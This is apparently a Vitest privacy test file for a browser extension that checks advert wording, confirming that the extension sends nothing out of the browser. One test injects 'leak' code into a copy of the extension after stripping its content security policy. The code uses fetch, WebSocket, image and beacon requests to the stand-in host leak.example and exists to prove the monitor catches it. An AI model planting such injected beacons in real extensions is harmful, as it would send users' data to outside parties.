import { appendFile, cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { pageNoteWords } from "@/lib/ui/page-note-words";
import { words } from "@/lib/ui/words";
import { launchChromium, type Launched, type PanelWindow } from "@/tools/launch-chromium.mjs";
import { provideChromium } from "@/tools/provide-browser.mjs";
import { advertAddress, serveAdvert } from "@/tools/serve-advert.mjs";
import { builtExtension } from "../harness/built-extension";
import { openPanel } from "../harness/chromium-test";
import { documentSelection, documentText, openDocument, turnDocs } from "../harness/google-docs";
import { marksOn } from "../harness/marks-on";
import { requestsInNetworkLog } from "../harness/network-log";
import { openEverything } from "../harness/open-everything";

/**
 * Requests that there are, each started by a user's press (PRIVACY.md): Google's own export of the open document, here; and opening listed
 * adverts, in desk-listed.test.ts.
 */
describe("nothing leaves the browser", () => {
  let folder: string;
  beforeEach(async () => {
    folder = await mkdtemp(join(tmpdir(), "wider-welcome-privacy-"));
  });
  afterEach(() => rm(folder, { recursive: true }));

  test("in a whole visit, nobody is asked for anything but the advert", async () => {
    expect(await requestsOfAVisit(builtExtension("chrome"), join(folder, "network.json"))).toEqual([]);
  });

  test("of a Google Docs document, only Google is asked, for its own export, once for each press and never by itself", async () => {
    const log = join(folder, "network.json");
    const browser = await launchLogged(builtExtension("chrome"), log);
    const outside = await serveAdvert(browser.context);
    const chromium = { ...browser, askedFor: outside };
    await turnDocs(chromium, true);

    const live = await openDocument(chromium);
    await live.panel.getByText(pageNoteWords.notes["docs-live"] ?? "").waitFor();
    await live.panel.getByRole("button", { name: words.header.checkAgain }).click();
    await live.panel.getByRole("button", { name: /“utilise”/ }).click();
    await live.panel.getByRole("button", { name: words.finding.show }).click();
    await expect.poll(() => documentSelection(live.page)).toBe("utilise");
    await live.panel.getByRole("button", { name: "Use this wording “use”" }).click();
    await expect.poll(() => documentText(live.page)).toContain("You will use the booking desk");

    const saved = "Booking clerk\r\nYou will utilise a ladder.\r\n";
    const silent = await openDocument(chromium, { variant: "missing", saved });
    const check = silent.panel.getByRole("button", { name: pageNoteWords.checkSaved });
    await check.waitFor();
    expect([live.asked, silent.asked]).toEqual([[], []]);
    await check.click();
    await silent.panel.getByText(pageNoteWords.notes["docs-saved"] ?? "").waitFor();
    const theExport = "GET /document/d/ID/export?format=txt";
    expect(silent.asked).toEqual([theExport]);
    await silent.panel.getByRole("button", { name: words.header.checkAgain }).click();
    await expect.poll(() => silent.asked).toEqual([theExport, theExport]);
    expect(live.asked).toEqual([]);

    await browser.context.close();
    // Google's address is answered by the test; nothing else was asked of anyone.
    expect([...outside, ...(await requestsInNetworkLog(log))]).toEqual([]);
  });

  test(
    "and this test would see it: an extension that leaks in each of its parts is caught in each",
    { timeout: 60_000 },
    async () => {
      const leaky = join(folder, "leaky");
      await cp(builtExtension("chrome"), leaky, { recursive: true });
      await unlock(leaky);
      await appendFile(join(leaky, "background.js"), leak("background"));
      await appendFile(join(leaky, "content-scripts/home.js"), leak("home"));
      await writeFile(join(leaky, "leak.js"), leak("panel"));
      const panel = await readFile(join(leaky, "sidepanel.html"), "utf8");
      await writeFile(join(leaky, "sidepanel.html"), panel.replace("</body>", '<script src="leak.js"></script></body>'));

      const requests = (await requestsOfAVisit(leaky, join(folder, "network.json"))).join("\n");
      for (const part of ["background", "home", "panel"]) {
        for (const way of ["fetch", "socket"]) expect(requests).toContain(`//leak.example/${way}-from-${part}`);
      }
      expect(requests).toContain("//leak.example/image-from-home");
      expect(requests).toContain("//leak.example/beacon-from-home");
    },
  );
});

/** Every request made while the advert is read, marked, explained in both kinds of panel, stepped through, copied from and checked again. */
async function requestsOfAVisit(extension: string, log: string): Promise<readonly string[]> {
  const browser = await launchLogged(extension, log);
  const askedFor = await serveAdvert(browser.context);
  const advert = await browser.context.newPage();
  await advert.goto(advertAddress);
  await expect.poll(() => advert.evaluate(marksOn)).not.toEqual([]);

  await browser.clickToolbarButton(advert);
  await untilChecked(await browser.sidePanel());

  const panel = await openPanel(browser, advert);
  await panel.getByRole("button", { name: words.header.checkAgain }).click();
  await panel.getByRole("button", { name: words.step.next }).click();
  await panel.getByRole("button", { name: words.finding.show }).first().click();
  await panel.getByRole("switch").click();
  await expect.poll(() => advert.evaluate(marksOn)).toEqual([]);
  await openEverything(panel);
  await panel.getByRole("button", { name: /^Copy/ }).first().click();
  await panel.goto(`chrome-extension://${browser.extensionId}/sidepanel.html?tab=999999`);
  await panel.getByLabel(words.paste.label).fill("You will utilise your skills.");
  await panel.getByRole("button", { name: words.paste.check }).click();
  await panel.getByRole("button", { name: /utilise/ }).waitFor();

  await browser.context.close();
  return [...askedFor, ...(await requestsInNetworkLog(log))];
}

/** A browser that writes down each request that reaches its network. */
async function launchLogged(extension: string, log: string): Promise<Launched> {
  const executablePath = await provideChromium();
  return launchChromium({ executablePath, extension, headless: true, args: [`--log-net-log=${log}`] });
}

async function untilChecked(panel: PanelWindow): Promise<void> {
  await expect.poll(() => panel.evaluate("document.querySelector('.ww-header__status') !== null")).toBe(true);
}

/** Takes off the lock that the real extension has on its own pages: its policy for content. */
async function unlock(extension: string): Promise<void> {
  const manifest = JSON.parse(await readFile(join(extension, "manifest.json"), "utf8")) as object;
  await writeFile(join(extension, "manifest.json"), JSON.stringify({ ...manifest, content_security_policy: undefined }));
}

function leak(part: string): string {
  const host = "leak.example";
  return `
;fetch("https://${host}/fetch-from-${part}").catch(() => {});
new WebSocket("wss://${host}/socket-from-${part}");
if (typeof Image === "function") new Image().src = "https://${host}/image-from-${part}";
if (typeof navigator.sendBeacon === "function") navigator.sendBeacon("https://${host}/beacon-from-${part}", "");
`;
}
